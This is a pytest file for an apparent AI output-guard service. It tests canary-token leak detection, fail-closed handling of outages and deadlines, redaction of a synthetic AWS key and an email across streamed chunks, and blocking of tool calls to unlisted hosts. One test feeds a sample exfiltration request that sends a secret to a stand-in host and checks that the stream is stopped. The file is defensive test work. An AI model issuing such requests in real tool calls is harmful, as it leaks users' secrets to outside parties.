"""Output-checker and prompt-guard canary handlers on FastStream's in-memory broker."""

from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
import structlog
from faststream.nats import NatsBroker, TestNatsBroker
from pydantic import BaseModel

from agentguard.contracts import (
    Category,
    CheckOutput,
    Decision,
    ErrorCode,
    ErrorReply,
    Identity,
    IncompleteReason,
    PolicyHints,
    Verdict,
    VerdictIssued,
    ViolationDetected,
    parse_reply,
)
from agentguard.contracts.streaming import (
    CANARY_ISSUE,
    OUTPUT_STREAM_ALL,
    CanaryIssued,
    ChunkAction,
    ChunkVerdict,
    IssueCanary,
    OutputChunk,
    RedactionMode,
    output_stream_subject,
    parse_canary_reply,
    parse_chunk_reply,
)
from agentguard.contracts.subjects import CHECK_OUTPUT
from agentguard.output_checker.app import build_rules
from agentguard.output_checker.handlers import OutputCheckerHandlers
from agentguard.output_checker.redaction import restore
from agentguard.output_checker.settings import OutputCheckerSettings
from agentguard.prompt_guard.handlers import PromptGuardHandlers
from agentguard.prompt_guard.settings import PromptGuardSettings
from agentguard.shared.codec import encode
from agentguard.shared.keystore import KeyStore, generate_key
from agentguard.shared.tasks import TaskTracker

AWS = "AKIAQ3EGTXR7N6VZ4K2P"
KEY = generate_key()


class ListSink:
    """Records what would be published."""

    def __init__(self) -> None:
        self.published: list[tuple[str, BaseModel]] = []

    async def publish(self, subject: str, message: BaseModel, msg_id: str) -> None:
        assert msg_id
        self.published.append((subject, message))


@dataclass
class DictCanaries:
    """Both canary ports over one dict; `fail` makes lookups raise like a KV outage."""

    data: dict[tuple[str, str], list[str]] = field(default_factory=dict)
    fail: bool = False

    async def lookup(self, tenant_id: str, session_id: str) -> tuple[str, ...]:
        if self.fail:
            raise TimeoutError
        return tuple(self.data.get((tenant_id, session_id), ()))

    async def add(self, tenant_id: str, session_id: str, canary: str) -> None:
        self.data.setdefault((tenant_id, session_id), []).append(canary)


@dataclass
class Harness:
    broker: NatsBroker
    store: DictCanaries
    sink: ListSink
    tasks: TaskTracker

    async def check(self, request: CheckOutput) -> Verdict | ErrorReply:
        response = await self.broker.request(encode(request), CHECK_OUTPUT, timeout=3)
        await self.tasks.drain()
        return parse_reply(response.body)

    async def chunk(self, chunk: OutputChunk) -> ChunkVerdict:
        response = await self.broker.request(
            encode(chunk), output_stream_subject(chunk.stream_id), timeout=3
        )
        await self.tasks.drain()
        reply = parse_chunk_reply(response.body)
        assert isinstance(reply, ChunkVerdict)
        return reply

    async def issue(self, identity: Identity) -> CanaryIssued | ErrorReply:
        response = await self.broker.request(
            encode(IssueCanary(identity=identity)), CANARY_ISSUE, timeout=3
        )
        return parse_canary_reply(response.body)


@pytest.fixture
async def harness() -> AsyncIterator[Harness]:
    store, sink, tasks = DictCanaries(), ListSink(), TaskTracker()
    log = structlog.get_logger()
    settings = OutputCheckerSettings(redaction_keys=(KEY,), tool_url_allowlist=("example.com",))
    output = OutputCheckerHandlers(
        settings=settings,
        sink=sink,
        tasks=tasks,
        log=log,
        producer="output-checker/test",
        rules=build_rules(settings, log),
        canaries=store,
    )
    guard = PromptGuardHandlers(
        settings=PromptGuardSettings(),
        sink=sink,
        log=log,
        producer="prompt-guard/test",
        canaries=store,
    )
    broker = NatsBroker()
    broker.subscriber(CHECK_OUTPUT)(output.on_check)
    broker.subscriber(OUTPUT_STREAM_ALL)(output.on_chunk)
    broker.subscriber(CANARY_ISSUE)(guard.on_issue_canary)
    async with TestNatsBroker(broker) as br:
        yield Harness(br, store, sink, tasks)


SESSION = Identity(tenant_id="acme", session_id="sess-1")


async def test_issued_canary_is_found_by_session_alone(harness: Harness) -> None:
    issued = await harness.issue(SESSION)
    assert isinstance(issued, CanaryIssued)
    assert issued.canary.startswith("agc-")
    assert harness.store.data[("acme", "sess-1")] == [issued.canary]
    spaced = " ".join(issued.canary.upper())
    verdict = await harness.check(CheckOutput(text=f"ok: {spaced}", identity=SESSION))
    assert isinstance(verdict, Verdict)
    assert verdict.decision is Decision.BLOCK
    assert [f.category for f in verdict.findings] == [Category.CANARY]
    violations = [m for _, m in harness.sink.published if isinstance(m, ViolationDetected)]
    assert violations
    assert violations[0].severity.value == "critical"
    # Another tenant's session with the same id does not see it.
    other = Identity(tenant_id="globex", session_id="sess-1")
    verdict = await harness.check(CheckOutput(text=f"ok: {spaced}", identity=other))
    assert isinstance(verdict, Verdict)
    assert verdict.decision is Decision.ALLOW


async def test_issue_needs_a_session(harness: Harness) -> None:
    reply = await harness.issue(Identity(tenant_id="acme"))
    assert isinstance(reply, ErrorReply)
    assert reply.code is ErrorCode.INVALID_ENVELOPE


async def test_canary_store_outage_fails_closed(harness: Harness) -> None:
    harness.store.fail = True
    verdict = await harness.check(CheckOutput(text="harmless", identity=SESSION))
    assert isinstance(verdict, Verdict)
    assert verdict.decision is Decision.BLOCK
    assert verdict.incomplete[0].reason is IncompleteReason.TIMEOUT
    chunk = await harness.chunk(OutputChunk(stream_id="st-x", seq=0, text="hi", identity=SESSION))
    assert chunk.action is ChunkAction.STOP


async def test_check_past_its_deadline_fails_closed(harness: Harness) -> None:
    big = "The quarterly report covers revenue, churn and hiring plans. " * 300
    late = CheckOutput(text=big, system_prompt=big, deadline_ms=1)
    verdict = await harness.check(late)
    assert isinstance(verdict, Verdict)
    assert verdict.decision is Decision.BLOCK
    assert [(i.check, i.reason) for i in verdict.incomplete] == [
        ("output_checks", IncompleteReason.TIMEOUT)
    ]
    relaxed = await harness.check(late.model_copy(update={"policy": PolicyHints(fail_open=True)}))
    assert isinstance(relaxed, Verdict)
    assert relaxed.decision is Decision.ALLOW
    assert relaxed.incomplete


async def test_whole_output_redaction_and_events(harness: Harness) -> None:
    verdict = await harness.check(CheckOutput(text=f"key {AWS}, mail ann@example.com"))
    assert isinstance(verdict, Verdict)
    assert verdict.decision is Decision.SANITIZE
    assert verdict.sanitized_text == "key [AWS_KEY_1], mail [EMAIL_1]"
    issued = [m for _, m in harness.sink.published if isinstance(m, VerdictIssued)]
    assert len(issued) == 1
    assert AWS not in issued[0].model_dump_json()


async def test_stream_split_key_redacted_and_reversible(harness: Harness) -> None:
    parts = ["Your key is AKIAQ3", "EGTXR7N6", "VZ4K2P, keep it safe."]
    replies = [
        await harness.chunk(
            OutputChunk(
                stream_id="st-1",
                seq=i,
                text=p,
                final=i == 2,
                redaction=RedactionMode.REVERSIBLE,
            )
        )
        for i, p in enumerate(parts)
    ]
    delivered = "".join(r.emit for r in replies)
    assert delivered == "Your key is [AWS_KEY_1], keep it safe."
    vaults = [r.vault for r in replies if r.vault]
    assert len(vaults) == 1
    assert restore(delivered, vaults[0], KeyStore([KEY])) == "".join(parts)
    assert replies[-1].closed
    issued = [m for _, m in harness.sink.published if isinstance(m, VerdictIssued)]
    assert [m.decision for m in issued] == [Decision.SANITIZE]


async def test_stream_reordered_and_duplicated_on_the_broker(harness: Harness) -> None:
    parts = ["one ", "two ", "three ", "four"]

    async def send(seq: int) -> ChunkVerdict:
        return await harness.chunk(
            OutputChunk(stream_id="st-2", seq=seq, text=parts[seq], final=seq == 3)
        )

    replies = [await send(s) for s in (1, 0, 0, 3, 2, 2)]
    assert [r.action for r in replies] == [
        ChunkAction.HOLD,
        ChunkAction.PASS,
        ChunkAction.DUPLICATE,
        ChunkAction.HOLD,
        ChunkAction.PASS,
        ChunkAction.DUPLICATE,
    ]
    assert "".join(r.emit for r in replies) == "one two three four"


async def test_tool_stream_with_unknown_host_stops(harness: Harness) -> None:
    reply = await harness.chunk(
        OutputChunk(
            stream_id="st-3",
            seq=0,
            text="GET https://exfil.test/?d=secret now",
            destination="tool",
            final=True,
        )
    )
    assert reply.action is ChunkAction.STOP
    assert reply.emit == ""


async def test_malformed_chunk_gets_typed_error(harness: Harness) -> None:
    response = await harness.broker.request(b"{nope", output_stream_subject("x"), timeout=3)
    reply = parse_chunk_reply(response.body)
    assert isinstance(reply, ErrorReply)
    assert reply.code is ErrorCode.MALFORMED_JSON
